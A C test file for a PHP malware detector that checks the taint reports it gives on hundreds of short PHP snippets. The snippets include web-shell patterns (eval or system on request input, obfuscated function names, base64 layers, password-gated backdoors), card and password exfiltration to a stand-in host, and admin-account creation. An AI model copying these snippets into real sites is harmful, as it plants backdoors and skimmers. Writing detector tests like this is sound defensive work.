/* run - what a walk through PHP sees: families of ways to a sink, look-alikes, and texts that are
 * made to be endless.
 *
 * A sighting is shown as one line: the sink's word, the name of what was called, where the value
 * came from, and marks. A row wants lines that begin so; "!" before one: no line may begin so.
 * What the sources would run is a marker.
 */
#include "spamgear/php/run.h"

#include "spamgear/base/strbuf.h"
#include "test.h"
#include <time.h>

static const char *const sink_words[PHP_SINKS] = {
    "none",    "eval",        "assert",  "create", "regex",      "command",     "call",   "new",
    "include", "unserialize", "name",    "write",  "upload",     "rename",      "delete", "chmod",
    "read",    "list",        "extract", "mail",   "parameters", "environment", "load",   "setting",
    "sql",     "connect",     "header",  "output", "touch",
};

static const struct {
    uint32_t bit;
    const char *word;
} sources[] = {
    {PHP_FROM_REQUEST, "request"},     {PHP_FROM_SERVER, "server"},
    {PHP_FROM_FILES, "files"},         {PHP_FROM_REMOTE, "remote"},
    {PHP_FROM_ENVIRONMENT, "env"},     {PHP_FROM_IMAGE, "image"},
    {PHP_FROM_DATABASE, "database"},   {PHP_FROM_FILE, "file"},
    {PHP_FROM_UNDEFINED, "undefined"}, {PHP_FROM_PARAMETER, "parameter"},
    {PHP_FROM_SELF, "self"},
};

static void add_line(struct strbuf *out, const struct php_sighting *s)
{
    strbuf_format(out, "%s %.*s", sink_words[s->sink], (int)s->name.len, s->name.at);
    for (size_t i = 0; i < sizeof sources / sizeof sources[0]; i++)
        if ((s->value.taint & sources[i].bit) != 0)
            strbuf_format(out, " %s", sources[i].word);
    if (s->value.type != PHP_UNKNOWN)
        strbuf_add_text(out, " known");
    if ((s->value.traits & PHP_IS_CHECKED) != 0)
        strbuf_add_text(out, " checked");
    if (s->hidden_name)
        strbuf_add_text(out, " hidden");
    if (s->called)
        strbuf_add_text(out, " called");
    if ((s->gates & PHP_GATE_HASH) != 0)
        strbuf_add_text(out, " hash");
    if (s->layer > 0)
        strbuf_format(out, " layer");
    if ((s->value.traits & (PHP_HAS_PREFIX | PHP_HAS_SAFE_NAME | PHP_IS_KEY)) != 0)
        strbuf_add_text(out, " bound");
    strbuf_add_char(out, '\n');
}

static bool has_line(const char *lines, const char *start, size_t len)
{
    for (const char *at = lines; *at != '\0'; at = strchr(at, '\n') + 1)
        if (strncmp(at, start, len) == 0)
            return true;
    return false;
}

static void check_wants(const char *source, const char *lines, const char *wants)
{
    while (*wants != '\0') {
        size_t len = strcspn(wants, "|");
        bool not_wanted = *wants == '!';
        bool has = has_line(lines, wants + not_wanted, len - not_wanted);
        test_true(source, has != not_wanted);
        if (has == not_wanted)
            printf("  want \"%.*s\", got:\n%s", (int)len, wants, lines);
        wants += len + (wants[len] == '|');
    }
}

static struct php_run *run;

static void check(const char *source, const char *wants)
{
    struct strbuf lines = {0};
    const struct php_sightings *seen = php_run_file(run, span_text(source));
    for (size_t i = 0; i < seen->list.len; i++)
        add_line(&lines, &seen->list.at[i]);
    if (wants[0] == '\0')
        test_text(source, strbuf_text(&lines), "");
    else
        check_wants(source, strbuf_text(&lines), wants);
    strbuf_clear(&lines);
}

struct row {
    const char *source, *want;
};

static void check_rows(const struct row *rows, size_t count)
{
    for (size_t i = 0; i < count; i++) {
        struct strbuf text = {0};
        strbuf_format(&text, "<?php %s", rows[i].source);
        check(strbuf_text(&text), rows[i].want);
        strbuf_clear(&text);
    }
}
#define CHECK(rows) check_rows(rows, sizeof rows / sizeof rows[0])

/* ---- what leads to a sink ---- */

static const struct row direct[] = {
    {"eval($_POST['m']);", "eval eval request"},
    {"@eval(stripslashes($_REQUEST['m']));", "eval eval request"},
    {"if (isset($_GET['m'])) assert($_GET['m']);", "assert assert request"},
    {"echo `{$_GET['m']}`;", "command ` request"},
    {"system($_SERVER['HTTP_X_M']);", "command system server"},
    {"shell_exec(base64_decode($_COOKIE['m']));", "command shell_exec request"},
    {"include $_GET['m'];", "include include request"},
    {"eval(file_get_contents('php://input'));", "eval eval request"},
    {"eval(file_get_contents('http://marker.example/m'));", "eval eval remote"},
    {"unserialize($_COOKIE['m']);", "unserialize unserialize request"},
    {"preg_replace('/x/e', $_POST['m'], 'x');", "regex preg_replace request"},
    {"create_function('', $_POST['m']);", "create create_function request"},
    {"new $_GET['m']($_GET['n']);", "new new request"},
    {"move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);",
     "upload move_uploaded_file files"},
    {"file_put_contents($_POST['n'], $_POST['m']);",
     "name file_put_contents request|write file_put_contents request"},
    {"eval($m);", "eval eval undefined"},
    {"include 'php://input';", "include include request"},
    {"passthru(getenv('HTTP_X_M'));", "command passthru server"},
};

/* What stands around it or was promised of it binds it, or does not. */
static const struct row bindings[] = {
    {"$m = trim($_POST['m']); eval('?>' . \"<?php\\n{$m}\\n?>\" . '<?');",
     "eval eval request|!eval eval request bound"},
    {"eval('$x = ' . $_POST['m'] . ';');", "eval eval request bound"},
    {"system('ping ' . $_GET['m'] . ' 2>&1');",
     "command system request|!command system request bound"},
    {"system('ping ' . escapeshellarg($_GET['m']));", "command system request bound"},
    {"include 'php://input';", "include include request|!include include request bound"},
    {"include 'pages/' . $_GET['m'] . '.html';", "include include request bound"},
    {"foreach ($t as $k => $v) $m = str_replace($k, $v, $_POST['m']); $f = $m; $f();",
     "call  request|!call  request bound"},
    {"foreach ($_POST as $k => $v) $k();", "call  request bound"},
    {"function f($x) { eval($x); } f($m);", "eval eval undefined"},
    {"function f(&$x) { $x = 'marker'; } f($m); eval($m);", "!eval eval undefined"},
    {"extract($_REQUEST); assert(stripslashes($m));", "assert assert request undefined"},
    {"function f() { extract($_POST); eval($m); } f();", "eval eval request"},
    {"function f($x) { extract($x); eval($m); } f(array('n' => 1));", "!eval eval request"},
    {"parse_str($_SERVER['QUERY_STRING']); eval($m);", "eval eval server undefined"},
    {"copy('http://marker.example/m.txt', 'm.php');", "upload copy remote"},
    {"ob_start('system'); echo $_GET['m'];", "command system request called"},
    {"set_error_handler('assert'); trigger_error($_GET['m']);", "assert assert request called"},
    {"$d = new SQLite3('m'); $d->createFunction('m', 'system');", "command system request called"},
    {"ob_start('strtoupper'); set_error_handler('f'); function f($n) { eval('x' . $n); }",
     "!eval eval request"},
    {"usort(...$_GET);", "call usort request"},
    {"try { throw new Exception($_GET['m']); } catch (Exception $e) { eval($e->getMessage()); }",
     "eval eval request"},
    {"try { m(); } catch (Exception $e) { eval($e->getMessage()); }", "!eval eval request"},
    {"eval(stream_get_contents(fopen('php://input', 'r')));", "eval eval request"},
    {"$p = new perl; $p->eval('print ' . $_GET['m']);", "command perl::eval request"},
    {"$a = new ArrayObject(array('x' => 1, $_GET['m'] => 2)); $a->uksort('assert');",
     "assert assert request"},
    {"array_diff_ukey(array($_GET['m'] => 1), array(1), 'assert');", "assert assert request"},
};

static const struct row flows[] = {
    {"$a = $_POST['m']; $b = $a; eval($b);", "eval eval request"},
    {"$a['x']['y'] = $_GET['m']; $b = $a['x']; eval($b['y']);", "eval eval request"},
    {"$a = array('k' => $_GET['m'], 'n' => 1); eval($a['k']);", "eval eval request"},
    {"$a = &$b; $b = $_GET['m']; eval($a);", "eval eval request"},
    {"if (!$_GET['m']) $_GET['m'] = 'marker()'; eval($_GET['m']);", "eval eval request"},
    {"foreach ($_POST as $k => $v) $$k = $v; eval($m);", "eval eval request undefined"},
    {"list($a, $b) = array('x', $_GET['m']); eval($b);", "eval eval request"},
    {"[, $b] = [1, $_GET['m']]; eval($b);", "eval eval request"},
    {"extract(array('m' => $_GET['m'])); eval($m);", "eval eval request"},
    {"function f($x) { eval($x); } f($_POST['m']);", "eval eval request"},
    {"function f() { return $_POST['m']; } eval(f());", "eval eval request"},
    {"function f(&$x) { $x = $_POST['m']; } f($y); eval($y);", "eval eval request"},
    {"function f() { global $g; eval($g); } $g = $_GET['m']; f();", "eval eval request"},
    {"function f() { static $s; $s = $_GET['m']; eval($s); } f();", "eval eval request"},
    {"$f = function () { return $_GET['m']; }; eval($f());", "eval eval request"},
    {"$x = $_GET['m']; $f = function () use ($x) { eval($x); }; $f();", "eval eval request"},
    {"$x = $_GET['m']; $f = fn() => eval($x); $f();", "eval eval request"},
    {"class A { public $p; function __construct($x) { $this->p = $x; }"
     " function __destruct() { eval($this->p); } } new A($_POST['m']);",
     "eval eval request"},
    {"class A { private $p; function set() { $this->p = $_POST['m']; return $this; }"
     " function go() { eval($this->p); } } $a = new A; $a->set()->go();",
     "eval eval request"},
    {"class A { static $p; static function go() { eval(self::$p); } }"
     " A::$p = $_POST['m']; A::go();",
     "eval eval request"},
    {"class B { protected $p; } class A extends B { function go() { eval($this->p); }"
     " function __wakeup() { $this->p = $_COOKIE['m']; } }",
     "eval eval request"},
    {"class A { function __toString() { return system($_GET['m']); } } echo new A;",
     "command system request"},
    {"class A { function __get($n) { eval($n); } function __invoke($x) { eval($x); } }"
     " $a = new A; $a($_GET['m']);",
     "eval eval request"},
    {"$o = new stdClass; $o->p = $_GET['m']; eval($o->p);", "eval eval request"},
    {"$a = 1; if ($_GET['k']) { $a = $_GET['m']; } eval($a);", "eval eval request"},
    {"switch ($_GET['k']) { case 'a': $f = $_GET['m']; break; } eval($f);", "eval eval request"},
    {"try { $x = $_GET['m']; throw new E; } catch (E $e) { eval($x); }", "eval eval request"},
    {"goto b; a: eval($x); exit; b: $x = $_GET['m']; goto a;", "eval eval request"},
    {"$h = fopen($_GET['n'], 'w'); fwrite($h, $_POST['m']);",
     "name fopen request|write fwrite request"},
    {"if (md5($_POST['p']) == '5f4dcc3b5aa765d61d8327deb882cf99') { eval($_POST['m']); }",
     "eval eval request hash"},
    {"if (md5($_POST['p']) != 'x') die(); eval($_POST['m']);", "eval eval request hash"},
    {"md5($_POST['p']) === 'x' && eval($_POST['m']);", "eval eval request hash"},
    {"exit; eval($_POST['m']);", "eval eval request"},
    {"if (false) { eval($_POST['m']); }", "eval eval request"},
};

static const struct row callbacks[] = {
    {"array_map('assert', array($_POST['m']));", "assert assert request called"},
    {"array_map('system', $_POST);", "command system request called"},
    {"call_user_func('assert', $_POST['m']);", "assert assert request called"},
    {"call_user_func_array('system', array($_POST['m']));", "command system request called"},
    {"usort($a = array('x', $_GET['m']), 'assert');", "assert assert request called"},
    {"array_filter(array($_GET['m']), 'system');", "command system request called"},
    {"array_walk($_POST, create_function('$x', 'eval($x);'));", "eval eval request"},
    {"$a = array($_GET['m']); array_walk($a, 'system');", "command system request called"},
    {"register_shutdown_function('system', $_GET['m']);", "command system request called"},
    {"ob_start('assert'); echo $_GET['m'];", "!eval"},
    {"$f = $_GET['f']; $f($_GET['m']);", "call  request"},
    {"array_map($_GET['f'], $_GET['m']);", "call array_map request"},
    {"$_GET['f']($_GET['m']);", "call  request"},
    {"filter_var($_GET['m'], FILTER_CALLBACK, array('options' => 'assert'));",
     "assert assert request called"},
    {"$r = new ReflectionFunction('system'); $r->invoke($_GET['m']);",
     "command system request called"},
    {"class A { static function go($x) { eval($x); } } call_user_func('A::go', $_GET['m']);",
     "eval eval request"},
    {"class A { function go($x) { eval($x); } } $a = new A;"
     " call_user_func(array($a, 'go'), $_GET['m']);",
     "eval eval request"},
    {"preg_replace_callback('/.*/', function ($m) { eval($m[0]); }, $_GET['m']);",
     "eval eval request"},
};

static const struct row hidden[] = {
    {"$f = 'sys' . 'tem'; $f($_GET['m']);", "command system request"},
    {"$f = strrev('metsys'); $f('marker');", "command system known hidden"},
    {"$f = 's' . 'y' . 's' . 'tem'; $f($_GET['m']);", "command system request hidden"},
    {"$f = chr(97) . chr(115) . chr(115) . chr(101) . chr(114) . chr(116); $f($_POST['m']);",
     "assert assert request hidden"},
    {"$a = 'abcdefghijklmnopqrstuvwxyz'; $f = $a[18].$a[24].$a[18].$a[19].$a[4].$a[12];"
     " $f($_GET['m']);",
     "command system request hidden"},
    {"$f = \"\\x73\\x79\\x73\\x74\\x65\\x6d\"; $f($_GET['m']);", "command system request hidden"},
    {"$f = '~~~~~~' ^ chr(13).chr(7).chr(13).chr(10).chr(27).chr(19); $f($_GET['m']);",
     "command system request hidden"},
    {"$a = array('f' => 'sys', 'g' => 'tem'); $n = $a['f'] . $a['g']; $n($_GET['m']);",
     "command system request"},
    {"$GLOBALS['x'] = 'system'; $GLOBALS['x']($_GET['m']);", "command system request"},
    {"${'GLO' . 'BALS'}['x'] = 'system'; $x($_GET['m']);", "command system request"},
    {"$n = 'x'; $$n = 'system'; $x($_GET['m']);", "command system request"},
    {"define('F', 'system'); $f = F; $f($_GET['m']);", "command system request"},
    {"class A { const F = 'system'; } $f = A::F; $f($_GET['m']);", "command system request"},
    {"$_ = '_' . 'POST'; eval(${$_}['m']);", "eval eval request"},
    {"function d($s) { $o = ''; for ($i = 0; $i < strlen($s); $i++) $o .= chr(ord($s[$i]) - 1);"
     " return $o; } $f = d('tztufn'); $f($_GET['m']);",
     "command system request hidden"},
    {"$t = array('s', 'y', 't', 'e', 'm'); foreach (array(0, 1, 0, 2, 3, 4) as $i) $f .= $t[$i];"
     " $f($_GET['m']);",
     "command system request hidden"},
    {"$s = 'metsys'; $f = ''; for ($i = strlen($s) - 1; $i >= 0; $i--) { $f .= $s{$i}; }"
     " $f($_GET['m']);",
     "command system request hidden"},
    {"$f = implode('', array('sys', 'tem')); $f($_GET['m']);", "command system request"},
    {"$f = str_replace('#', '', 's#y#s#t#e#m'); $f($_GET['m']);", "command system request"},
    {"$f = sprintf('%s%s', 'sys', 'tem'); $f($_GET['m']);", "command system request"},
    {"goto b; a: $f .= 'tem'; goto c; b: $f = 'sys'; goto a; c: $f($_GET['m']);",
     "command system request"},
    {"(function ($f) { $f($_GET['m']); })('system');", "command system request"},
};

static const struct row layers[] = {
    {"eval(base64_decode('c3lzdGVtKCRfR0VUWydtJ10pOw=='));",
     "eval eval known|command system request layer"},
    {"eval('system($_GET[\"m\"]);');", "command system request layer"},
    {"assert('system($_GET[\"m\"])');", "command system request layer"},
    {"$f = create_function('$x', 'system($x);'); $f($_GET['m']);", "command system request layer"},
    {"eval('?><?php eval($_GET[\"m\"]);');", "eval eval request layer"},
    {"$x = 'ev' . 'al($_GET[\"m\"]);'; eval($x);", "eval eval request layer"},
    {"$y = 'm'; eval(\"\\$z = \\$_GET['$y'];\"); system($z);", "command system request"},
    {"eval(\"return \" . $_GET['m'] . \";\");", "eval eval request"},
    {"eval('system(\"' . $_GET['m'] . '\");');", "command system request layer"},
    {"file_put_contents('x.php', '<?php eval($_POST[\"m\"]);');",
     "write file_put_contents known|eval eval request layer"},
    {"preg_replace('/a/e', 'system($_GET[\"m\"])', 'a');", "command system request layer"},
    {"include 'data:text/plain;base64,PD9waHAgZXZhbCgkX1BPU1RbIm0iXSk7';",
     "eval eval request layer"},
};

static const struct row clean[] = {
    {"echo 'hello';", ""},
    {"$x = 5; $y = $x + 1; print $y;", ""},
    {"include 'config.php'; require_once dirname(__FILE__) . '/x.php';",
     "!include include request"},
    {"$f = 'trim'; echo $f(' x ');", ""},
    {"array_map('trim', array('a', 'b'));", ""},
    {"usort($rows, function ($a, $b) { return $a - $b; });", ""},
    {"$id = (int) $_GET['id']; include 'page' . $id . '.php';", "!include include request"},
    {"$a = $_GET['m']; $a = 'fixed'; eval($a);", ""},
    {"function f($x) { return strlen($x); } $n = f($_GET['m']); include \"p$n.php\";",
     "!include include request"},
    {"if (in_array($_GET['p'], array('a', 'b'))) { include $_GET['p'] . '.php'; }",
     "include include request checked"},
    {"$a = array('a' => 'x.php', 'b' => 'y.php'); include $a[$_GET['p']];",
     "include include request checked"},
    {"switch ($_GET['p']) { case 'a': $f = 'x.php'; break; default: $f = 'y.php'; } include $f;",
     "!include include request"},
    {"call_user_func('strtoupper', 'x');", ""},
    {"preg_replace('/e/', 'x', $_GET['m']);", ""},
    {"class A { private $p = 'x'; function go() { return $this->p; } } $a = new A; $a->go();", ""},
    {"echo htmlspecialchars($_GET['m']);", ""},
};

/* ---- what never ends ---- */

static void repeat(struct strbuf *out, const char *text, size_t count)
{
    for (size_t i = 0; i < count; i++)
        strbuf_add_text(out, text);
}

static double seconds_of(const char *name, const struct strbuf *text, const char *want)
{
    struct timespec a, b;
    clock_gettime(CLOCK_MONOTONIC, &a);
    check(strbuf_text(text), want);
    clock_gettime(CLOCK_MONOTONIC, &b);
    double took = (double)(b.tv_sec - a.tv_sec) + (double)(b.tv_nsec - a.tv_nsec) / 1e9;
    test_true(name, took < 60);
    return took;
}

/* Each text ends, and what stands behind it is still seen. */
static void test_endless(void)
{
    static const char *const texts[] = {
        "while (true) { $i++; }",
        "for (;;);",
        "do ; while (1);",
        "do { $a .= $a . 'x'; } while (1);",
        "a: $i++; goto a;",
        "function f($x) { return f($x . 'a'); } f('');",
        "function f($x) { return g($x) . g($x); } function g($x) { return f($x) . f($x); } f(1);",
        "$x = 'aaaaaaaaaa'; while (1) $x = str_replace('a', 'aaaaaaaaaa', $x);",
        "$a = array(); while (true) { $a[] = $a; }",
        "$x = 'eval($x);'; eval($x);",
        "$x = 'eval(\"//\" . $x . \"\\n\" . $x = \"//\" . $x);'; eval($x . ' ');",
        "$i = 0; $x = 'eval($x . ++$i);'; eval($x);",
        "class A { function __get($n) { return $this->$n; } } $a = new A; $a->x;",
        "$f = function () use (&$f) { return $f() . $f(); }; $f();",
        "$x = str_repeat('x', 1000000000);",
        "foreach (range(0, 100000000) as $i) $x .= $i;",
    };
    for (size_t i = 0; i < sizeof texts / sizeof texts[0]; i++) {
        struct strbuf text = {0};
        strbuf_format(&text, "<?php %s\n eval($_POST['m']);", texts[i]);
        seconds_of(texts[i], &text, "eval eval request");
        strbuf_clear(&text);
    }
}

/* Computing is optional: a file counts as told when what was not computed runs nothing. */
static void test_given_up(void)
{
    static const struct {
        const char *name, *source;
        bool spent;
        const char *wants;
    } rows[] = {
        {"an endless loop", "while (true) { $i++; } eval($_POST['m']);", false,
         "eval eval request"},
        {"an endless loop in a function",
         "function f() { for (;;) { $i++; } system($_GET['m']); } f();", false,
         "command system request"},
        {"what an endless loop makes is run", "while (true) { $x .= 'a'; } eval($x);", true,
         "eval"},
        {"what it makes is called", "while (true) { $x .= 'a'; } $x($_GET['m']);", true, "call"},
        {"what it makes is included", "while (true) { $x .= 'a'; } include $x;", true, "include"},
        {"what it makes is shown", "while (true) { $x .= 'a'; } echo $x;", false, ""},
        {"what it makes is written as code",
         "while (true) { $x .= 'a'; } file_put_contents('a.php', $x);", true, ""},
        {"what it makes is written as text",
         "while (true) { $x .= 'a'; } file_put_contents('a.txt', $x);", false, ""},
        {"through an array", "$i = 0; while (true) { $a[$i++] = 'a' . $i; } eval($a[7]);", true,
         "eval"},
        {"through a function",
         "function f($s) { while (true) { $s .= 'a'; } return $s; }"
         "eval(f('a'));",
         true, "eval"},
        {"a decoder that takes too long",
         "$s = str_repeat('ab', 400000); for ($i = 0; $i < strlen($s); $i++)"
         "{ $o .= chr(ord($s[$i]) ^ 3); } eval($o);",
         true, "eval"},
        {"an endless goto", "a: $i++; goto a; system($_GET['m']);", false,
         "command system request"},
        {"what an endless goto makes is run", "a: $x .= 'a'; if ($i++ < 900000) goto a; eval($x);",
         true, "eval"},
        {"a name that stands in the source", "while (true) { $f = 'trim'; $i++; echo $f('x'); }",
         false, ""},
        {"a large table",
         "$t = range(0, 40000); foreach ($t as $k => $v) { $u[$v] = $k; }"
         "eval($_POST['m']);",
         false, "eval eval request"},
        {"a foreach that is run",
         "foreach (range(0, 90000) as $k) { for ($j = 0; $j < 99; $j++)"
         "$x .= chr($k); } eval($x);",
         true, "eval"},
    };
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        struct strbuf text = {0};
        strbuf_format(&text, "<?php %s", rows[i].source);
        seconds_of(rows[i].name, &text, rows[i].wants);
        const struct php_sightings *seen = php_run_file(run, strbuf_span(&text));
        test_true(rows[i].name, (seen->spent != NULL) == rows[i].spent);
        strbuf_clear(&text);
    }
}

static void wrap(struct strbuf *text, size_t count)
{
    repeat(text, "eval(", count);
    strbuf_add_text(text, "$_POST['m']");
    repeat(text, ")", count);
}

static void test_large(void)
{
    static const struct {
        const char *name, *before, *each, *after;
        size_t count;
    } rows[] = {
        {"calls in a row", "", "trim('x');", "", 100000},
        {"calls in calls", "", "trim(", "", 100000},
        {"a long concatenation", "$x = ''", ".'abcdef'", ";", 200000},
        {"appending", "$x = '';", "$x .= 'abc';", "", 100000},
        {"one line", "$x = '", "0123456789", "';", 1000000},
        {"branches", "", "if ($_GET['a']) { $x = 1; } else { $x = 2; }", "", 50000},
        {"blocks in blocks", "", "{", "", 50000},
        {"functions", "", "function f() { return 1; }", "", 30000},
        {"classes", "", "class A extends B { function f() { $this->f(); } }", "", 20000},
        {"loops in loops", "", "for ($i = 0; $i < 100; $i++) {", "$x .= 'a';", 200},
        {"sightings", "", "eval($_GET['a']);", "", 20000},
        {"gotos", "", "goto a; a: $x = 1; b: goto c; c:", "", 20000},
    };
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        struct strbuf text = {0};
        strbuf_format(&text, "<?php eval($_POST['m']); %s", rows[i].before);
        repeat(&text, rows[i].each, rows[i].count);
        strbuf_add_text(&text, rows[i].after);
        seconds_of(rows[i].name, &text, "eval eval request");
        strbuf_clear(&text);
    }
}

static void test_many_variables(void)
{
    struct strbuf text = {0};
    strbuf_add_text(&text, "<?php ");
    for (int i = 0; i < 100000; i++)
        strbuf_format(&text, "$v%d = %d;", i, i);
    strbuf_add_text(&text, "eval($_POST['m']);");
    seconds_of("100,000 variables", &text, "eval eval request");
    strbuf_clear(&text);
}

/* A thousand layers of eval: it ends, and says which budget was spent. */
static void test_nested_layers(void)
{
    struct strbuf text = {0};
    strbuf_add_text(&text, "<?php $c = 0; $x = 'if ($c++ < 1000) eval($x . \"/*$c*/\");'; eval($x);"
                           "system($_GET['m']);");
    seconds_of("1,000 layers", &text, "command system request");
    const struct php_sightings *seen = php_run_file(run, strbuf_span(&text));
    test_true("layers are a budget", seen->spent != NULL && seen->layers.len <= 65);
    strbuf_reset(&text);
    strbuf_add_text(&text, "<?php ");
    for (int i = 0; i < 200; i++)
        strbuf_format(&text, "file_put_contents('%d.php', '<?php echo %d;');", i, i);
    seen = php_run_file(run, strbuf_span(&text));
    test_true("written programs are no layers of eval", seen->spent == NULL);
    strbuf_reset(&text);
    strbuf_add_text(&text, "<?php ");
    wrap(&text, 300);
    strbuf_add_text(&text, ";");
    seconds_of("eval in eval", &text, "eval eval request");
    strbuf_clear(&text);
}

/* ---- what is told besides ---- */

static void test_counts(void)
{
    const struct php_sightings *seen = php_run_file(
        run, SPAN("<?php defined('A') or die; if (!defined('B')) { exit; } error_reporting(0); "
                  "@set_time_limit(0); unlink(__FILE__); touch('a', 1);\n"
                  "function f() {} class A {} $g = 'x'; $g(); goto a; a: eval('1;');"));
    test_number("functions", seen->counts[PHP_COUNT_FUNCTIONS], 1);
    test_number("guards", seen->counts[PHP_COUNT_GUARDS], 2);
    test_number("classes", seen->counts[PHP_COUNT_CLASSES], 1);
    test_number("errors off", seen->counts[PHP_COUNT_ERRORS_OFF], 1);
    test_number("no time limit", seen->counts[PHP_COUNT_NO_TIME_LIMIT], 1);
    test_number("self-deletion", seen->counts[PHP_COUNT_SELF_DELETE], 1);
    test_number("forged times", seen->counts[PHP_COUNT_FORGED_TIMES], 1);
    test_number("variable calls", seen->counts[PHP_COUNT_VARIABLE_CALLS], 1);
    test_number("silenced", seen->counts[PHP_COUNT_SILENCED], 1);
    test_number("gotos", seen->counts[PHP_COUNT_GOTOS], 1);
    test_number("evals", seen->counts[PHP_COUNT_EVALS], 1);
}

static const struct {
    const char *source;
    enum php_count what;
    unsigned count;
} counted[] = {
    {"mail('m@marker.example', 'm', $_POST['payment']['cc_number']);", PHP_COUNT_CARDS_TAKEN, 1},
    {"function f($i) { $d = 'n=' . $i->getCcNumber(); $c = curl_init('http://marker.example/');"
     " curl_setopt($c, CURLOPT_POSTFIELDS, base64_encode($d)); curl_exec($c); }",
     PHP_COUNT_CARDS_TAKEN, 1},
    {"file_get_contents('http://marker.example/?' . base64_encode($_POST['cvv']));",
     PHP_COUNT_CARDS_TAKEN, 1},
    {"file_put_contents('a.jpg', $_POST['cc_number'] . '|', FILE_APPEND);", PHP_COUNT_CARDS_TAKEN,
     1},
    {"$x = $i->getCcNumber(); $db->query($x); echo $x;", PHP_COUNT_CARDS_TAKEN, 0},
    {"mail($to, 'login', $_POST['user'] . ':' . $_POST['password']);", PHP_COUNT_PASSWORDS_SENT, 1},
    {"function login($user, $password) { file_get_contents(\"http://marker.example/$password\"); }",
     PHP_COUNT_PASSWORDS_SENT, 1},
    {"mail($to, 'login', md5($_POST['password']));", PHP_COUNT_PASSWORDS_SENT, 0},
    {"curl_setopt($c, CURLOPT_USERPWD, $a['password']);", PHP_COUNT_PASSWORDS_SENT, 0},
    {"$u = new WP_User($id); $u->set_role('administrator');", PHP_COUNT_ADMINS_MADE, 1},
    {"wp_insert_user(array('user_login' => 'm', 'role' => 'administrator'));",
     PHP_COUNT_ADMINS_MADE, 1},
    {"wp_insert_user(array('user_login' => 'm', 'role' => 'subscriber'));", PHP_COUNT_ADMINS_MADE,
     0},
    {"if (strpos($_SERVER['HTTP_USER_AGENT'], 'bot'))"
     " echo file_get_contents('http://marker.example/' . $_SERVER['HTTP_HOST']);",
     PHP_COUNT_DOORWAYS, 1},
    {"if (preg_match('/marker/', $_SERVER['HTTP_REFERER']))"
     " header('Location: http://marker.example/');",
     PHP_COUNT_DOORWAYS, 1},
    {"$r = strtolower($_SERVER['HTTP_REFERER']); $is = strpos($r, 'marker') !== false;"
     " if ($is) header('Location: http://marker.example/');",
     PHP_COUNT_DOORWAYS, 1},
    {"function is_bot() { if (stripos($_SERVER['HTTP_USER_AGENT'], 'bot')) return true; return"
     " false; } if (is_bot()) echo file_get_contents('http://marker.example/');",
     PHP_COUNT_DOORWAYS, 1},
    {"header('Location: http://marker.example/');", PHP_COUNT_DOORWAYS, 0},
    {"foreach ($_POST as $k => $v) $m .= $k . $v; mail($to, 'm', $m);", PHP_COUNT_REQUESTS_SENT, 1},
    {"$c = curl_init('http://marker.example/'); curl_setopt($c, CURLOPT_POSTFIELDS,"
     " base64_encode(serialize($_POST)));",
     PHP_COUNT_REQUESTS_SENT, 1},
    {"mail($to, 'm', $_POST['text']);", PHP_COUNT_REQUESTS_SENT, 0},
    {"fputs($f, base64_decode('IyEvYmluL3NoCmVjaG8gbWFya2VyCg=='));", PHP_COUNT_PROGRAMS, 1},
    {"$x = 'LyogbWFya2VyICovCiNpbmNsdWRlIDxzdGRpby5oPgo='; fputs($f, base64_decode($x));",
     PHP_COUNT_PROGRAMS, 1},
    {"fputs($f, base64_decode('IyBNWiBpcyB3aGF0IGEgbWFya2VyIGVuZHMgd2l0aAo='));",
     PHP_COUNT_PROGRAMS, 0},
    {"file_put_contents('m.jpg', base64_encode(serialize($_POST)), FILE_APPEND);",
     PHP_COUNT_REQUESTS_SENT, 1},
    {"if ($_POST['p'] == '0123456789abcdef0123456789abcdef') f();", PHP_COUNT_HASH_GATES, 1},
    {"if ($_POST['p'] == 'list') f();", PHP_COUNT_HASH_GATES, 0},
};

/* A decoder that reads more than the budget allows: that its result is run is seen all the same. */
static void test_cut_short(void)
{
    struct strbuf text = {0};
    strbuf_add_text(&text, "<?php function d($s) { for ($i = 0, $o = ''; $i < strlen($s); $i++)"
                           " $o .= chr(ord($s[$i]) + 1); return $o; } eval(d('");
    repeat(&text, "abcdefgh", 60000);
    strbuf_add_text(&text, "'));");
    const struct php_sightings *seen = php_run_file(run, strbuf_span(&text));
    test_true("spent", seen->spent != NULL);
    test_number("one sighting", (int64_t)seen->list.len, 1);
    if (seen->list.len == 1)
        test_true("decoded", (seen->list.at[0].value.traits & PHP_IS_DECODED) != 0);
    strbuf_clear(&text);
}

static void test_counted(void)
{
    for (size_t i = 0; i < sizeof counted / sizeof counted[0]; i++) {
        struct strbuf text = {0};
        strbuf_format(&text, "<?php %s", counted[i].source);
        const struct php_sightings *seen = php_run_file(run, strbuf_span(&text));
        test_number(counted[i].source, seen->counts[counted[i].what], counted[i].count);
        strbuf_clear(&text);
    }
}

static void test_trail(void)
{
    struct strbuf out = {0};
    const struct php_sightings *seen =
        php_run_file(run, SPAN("<?php\n$a = $_GET['m'];\n\n$b = trim($a);\neval($b);\n"));
    test_number("one sighting", (int64_t)seen->list.len, 1);
    if (seen->list.len == 1) {
        const struct php_sighting *s = &seen->list.at[0];
        test_number("its line", s->line, 5);
        php_trail_show(run, s->value.trail, 8, &out);
        test_text("its trail", strbuf_text(&out), "  2: $a = $_GET['m']\n  4: $b = trim($a)\n");
        test_bytes("its statement", "eval($b);", 9,
                   &"<?php\n$a = $_GET['m'];\n\n$b = trim($a);\neval($b);\n"[s->statement_at],
                   s -> statement_len);
    }
    strbuf_clear(&out);
}

int main(void)
{
    run = php_run_new(NULL);
    CHECK(direct);
    CHECK(bindings);
    CHECK(flows);
    CHECK(callbacks);
    CHECK(hidden);
    CHECK(layers);
    CHECK(clean);
    test_counts();
    test_counted();
    test_cut_short();
    test_trail();
    test_endless();
    test_given_up();
    test_large();
    test_many_variables();
    test_nested_layers();
    php_run_free(run);
    return test_end();
}
